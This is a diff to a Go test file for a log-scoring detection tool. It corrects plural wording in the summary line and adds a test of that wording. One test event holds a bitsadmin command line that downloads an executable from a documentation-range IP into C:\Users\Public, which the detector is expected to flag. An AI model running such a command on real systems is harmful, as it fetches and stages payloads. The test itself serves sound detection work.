@@ -61,7 +61,7 @@ func TestScoreRefusesBinaryInput(t *testing.T) {
 func TestScoreNoFieldTheDetectionReads(t *testing.T) {
 	_, stderr, status := runScore(strings.NewReader("_time,host,message\n1,h,hello\n2,h,world\n"))
 	if status != ExitUsage || !strings.Contains(stderr, "-: no event has any field the detection reads (CommandLine, ProcessCommandLine, Image)") ||
-		!strings.Contains(stderr, "-: 2 events scored, 0 alert, 0 could not be read") {
+		!strings.Contains(stderr, "-: 2 events scored, 0 alerts, 0 could not be read") {
 		t.Errorf("status %d, stderr %q", status, stderr)
 	}
 	_, stderr, status = runScore(strings.NewReader("_time,host,message\n1,h,hello\n"), "--quiet")
@@ -264,5 +264,17 @@ func TestScoreJSONLinesGoOnAfterABadLine(t *testing.T) {
 	if status != ExitAlert || !strings.Contains(stderr, "-:101: JSON at byte") ||
 		!strings.Contains(stderr, "-: 424 events scored, 1 alert, 1 could not be read") {
 		t.Errorf("status %d, stderr %q", status, stderr)
+	}
+}
+
+// The summary line counts in English: one event, one alert, no alerts.
+func TestScoreSummaryPlurals(t *testing.T) {
+	_, stderr, _ := runScore(strings.NewReader(`{"EventCode":"1","Image":"C:\\Windows\\notepad.exe","CommandLine":"notepad"}` + "\n"))
+	if want := "-: 1 event scored, 0 alerts, 0 could not be read"; !strings.Contains(stderr, want) {
+		t.Errorf("stderr %q, want %q", stderr, want)
+	}
+	_, stderr, _ = runScore(strings.NewReader(`{"EventCode":"1","Image":"C:\\Windows\\System32\\bitsadmin.exe","CommandLine":"bitsadmin /transfer j http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe"}` + "\n"))
+	if want := "-: 1 event scored, 1 alert, 0 could not be read"; !strings.Contains(stderr, want) {
+		t.Errorf("stderr %q, want %q", stderr, want)
 	}
 }
